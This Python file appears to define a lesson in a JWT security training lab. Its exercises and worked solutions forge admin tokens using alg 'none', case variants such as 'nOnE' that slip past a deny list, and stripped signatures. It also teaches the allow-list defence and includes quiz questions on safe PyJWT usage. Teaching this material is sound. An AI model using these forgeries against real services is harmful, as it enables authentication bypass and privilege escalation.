"""Lesson 10: alg none, deny lists, and signatures that are simply left out."""

from __future__ import annotations

from typing import Any

from jwtlab.attacks import ATTACKS
from jwtlab.exercises.forging import FORGED, as_token, forged
from jwtlab.exercises.model import Exercise, Lesson, Option, Question, Wrong, mistakes
from jwtlab.exercises.table import TRUE_OR_FALSE, Case, Table, near, true_or_false
from jwtlab.jose.token import decode

_NONE = ATTACKS["alg-none"].scenario("none")
_FILTERED = ATTACKS["alg-none"].scenario("None")
_STRIPPED = ATTACKS["signature-stripped"].scenario("skipped")

MINE = _NONE.good
"""Mallory's own token, as the issuer made it."""


@mistakes(
    {
        "one-dot": "There is one dot. The third part is empty, but the dot before it stays.",
        "other-alg": "The weak verifier lets you in, but this exercise is about alg 'none', in small letters.",
        "signature": "There is still a signature. A token with alg none ends with its second dot.",
        "others": "You are in. But other claims than sub and admin have changed; leave them as they were.",
    },
    FORGED,
)
def _judge_none(answer: Any) -> str:
    text = as_token(answer)
    if text.count(".") == 1:
        raise Wrong("one-dot")
    reading = forged(text, _NONE)
    if reading.header is None or reading.header.get("alg") != "none":
        raise Wrong("other-alg")
    if reading.signature:
        raise Wrong("signature")
    if reading.claims != decode(MINE).claims | {"sub": "admin", "admin": True}:
        raise Wrong("others")
    return "You are the administrator, and no key was involved. STANDARD refuses it by algorithm-allowed."


@mistakes({}, FORGED)
def _judge_filter(answer: Any) -> str:
    reading = forged(answer, _FILTERED)
    alg = (reading.header or {}).get("alg")
    return (
        f"The filter looks for 'none' and finds {alg!r}; the library reads both alike. "
        "A list of bad words is never complete."
    )


@mistakes({}, FORGED)
def _judge_stripped(answer: Any) -> str:
    forged(answer, _STRIPPED)
    return (
        "A signature that is not there cannot be wrong, this verifier thinks. "
        "STANDARD thinks otherwise: signature-valid."
    )


def _alg(mistake: str, alg: Any, allowed: list[str], expected: bool, why: str = "") -> Case:
    return Case(mistake, ({"alg": alg, "typ": "JWT"}, allowed), expected, why)


_judge_rule = Table(
    cases=(
        _alg("listed", "ES256", ["ES256"], True, "This name is in the list, letter by letter."),
        _alg("listed", "RS256", ["ES256", "RS256"], True),
        _alg("listed", "EdDSA", ["EdDSA"], True),
        _alg("listed", "HS256", ["HS256"], True),
        _alg("none", "none", ["ES256"], False, "No spelling of none is in the list."),
        _alg("none", "nOnE", ["ES256"], False),
        _alg("case", "es256", ["ES256"], False, "Names are compared letter by letter; this is another name."),
        _alg("not-listed", "HS256", ["ES256"], False, "It is a good algorithm, and not one of yours."),
        _alg("not-listed", "ES256", ["ES384", "ES512"], False),
        Case("missing", ({}, ["ES256"]), False, 'alg may be missing: header.get("alg").'),
        _alg("null", None, ["ES256"], False, "alg may be null."),
        _alg("list", ["ES256"], ["ES256"], False, "alg may be a list; then it is no name."),
        _alg("list", [], ["ES256"], False),
        _alg("piece", "ES", ["ES256"], False, "It is only a piece of a name. Is your list a text by accident?"),
        _alg("piece", ", ", ["ES256", "RS256"], False),
        _alg("kind", {"a": 1}, ["ES256"], False,
             "alg may be anything that JSON has; a dict, say. Raise nothing, and take it for no name."),
        *(_alg("kind", other, ["ES256"], False) for other in (256, 1.5, True, False, {"ES256": 1})),
        _alg("empty-list", "ES256", [], False, "An empty list allows nothing."),
        *near("alg", "ES256", lambda text: ({"alg": text}, ["ES256"]), False),
        *near("alg", "EdDSA", lambda text: ({"alg": text}, ["ES256", "EdDSA"]), False),
    ),
    read=true_or_false,
    own=TRUE_OR_FALSE,
    praise="{count} headers, and no word about none: a list of your own does not have to know the attack.",
)  # fmt: skip


LESSON = Lesson(
    number="10",
    name="10_alg_none",
    title="alg none",
    why="The oldest trick with tokens works wherever a verifier believes what a token says about itself.",
    minutes=30,
    needs=("05",),
    exercises=(
        Exercise(
            id="10.1",
            title="Become admin",
            judge_answer=_judge_none,
            hints=(
                "Header, payload, and nothing. The cell with forged shows how; only admin is missing there.",
                'The header is {"alg": "none"}; the claims are those of mine, with two exchanged.',
                'part(header) + "." + part(claims) + "." : the token ends with a dot.',
            ),
            solution="""\
def part(value):
    return base64url.encode(json.dumps(value).encode())

claims = {**jwtlab.decode(mine).claims, "sub": "admin", "admin": True}
answer = part({"alg": "none"}) + "." + part(claims) + "." """.rstrip(),
        ),
        Exercise(
            id="10.2",
            title="Slip past the filter",
            judge_answer=_judge_filter,
            hints=(
                "The filter compares with one spelling. Which others are there?",
                "Capital letters: the library behind the filter does not mind them.",
                'Write {"alg": "None"} into the header.',
            ),
            solution="""\
def part(value):
    return base64url.encode(json.dumps(value).encode())

claims = {**jwtlab.decode(mine).claims, "sub": "admin", "admin": True}
answer = part({"alg": "nOnE"}) + "." + part(claims) + "." """.rstrip(),
        ),
        Exercise(
            id="10.3",
            title="Cut it off",
            judge_answer=_judge_stripped,
            hints=(
                "Which part does the code look at before it decides to verify?",
                "Keep the first part of mine as it is, write a new second part, leave the third one empty.",
                'header = mine.split(".")[0]; then header + "." + part(claims) + "."',
            ),
            solution="""\
def part(value):
    return base64url.encode(json.dumps(value).encode())

claims = {**jwtlab.decode(mine).claims, "sub": "admin", "admin": True}
answer = mine.split(".")[0] + "." + part(claims) + "." """.rstrip(),
        ),
        Exercise(
            id="10.4",
            title="Write the rule",
            judge_answer=_judge_rule,
            hints=(
                "One line is enough, if nothing can raise in it.",
                'header.get("alg") may be a list or a dict. Is it a text? isinstance(alg, str).',
                "alg in allowed works for a list of names; it compares letter by letter.",
            ),
            solution="""\
def answer(header, allowed):
    alg = header.get("alg")
    return isinstance(alg, str) and alg in allowed""",
        ),
    ),
    predictions=(
        Question(
            id="10.p1",
            text="Mallory has her own token and no key. She wants the server to take her for the administrator. "
            "What is the least that the server must do wrong?",
            options=(
                Option(
                    text="It must use a weak algorithm",
                    why="A strong algorithm does not help if it is not used.",
                ),
                Option(
                    text="It must lose its private key",
                    why="With the key she could sign anything. It works without, as you will see.",
                ),
                Option(
                    text="It must let the token say how it is checked",
                    why="Then the token says: not at all.",
                    right=True,
                ),
            ),
        ),
    ),
    quiz=(
        Question(
            id="10.q1",
            text="A verifier refuses tokens whose alg is 'none', 'None' or 'NONE'. Is it safe from this attack?",
            options=(
                Option(text="Yes, these are all spellings", why="There are sixteen. nOnE is one more."),
                Option(
                    text="Yes, if it uses HTTPS",
                    why="HTTPS protects messages on their way. Mallory sends the forged token herself.",
                ),
                Option(
                    text="No: a deny list has to know every trick in advance",
                    why="The other way round it works: allow ES256, and every other word is refused, known or not.",
                    right=True,
                ),
            ),
        ),
        Question(
            id="10.q2",
            text="Which of these calls of PyJWT is safe?",
            options=(
                Option(
                    text='jwt.decode(token, key, algorithms=[jwt.get_unverified_header(token)["alg"]])',
                    why="The list is taken from the token: it chooses how it is checked.",
                ),
                Option(
                    text='jwt.decode(token, key, algorithms=["ES256"])',
                    why="The list is in your source code, and the token has to fit it.",
                    right=True,
                ),
                Option(
                    text='jwt.decode(token, options={"verify_signature": False})',
                    why="It says plainly that it does not verify. Good for looking, never for deciding.",
                ),
            ),
        ),
        Question(
            id="10.q3",
            text="Why does RFC 7518 define none at all?",
            options=(
                Option(
                    text="For tokens that are protected in another way",
                    why="Inside an encrypted token, for example. A verifier that does not expect that "
                    "must not allow it.",
                    right=True,
                ),
                Option(
                    text="By mistake; it was withdrawn",
                    why="It is still in the standard. RFC 8725 §3.2 says when it may be used.",
                ),
                Option(
                    text="For testing",
                    why="Tests are better done with a test key: then the check is tested too.",
                ),
            ),
        ),
    ),
    checks=(
        "algorithm-allowed",
        "signature-valid",
    ),
)
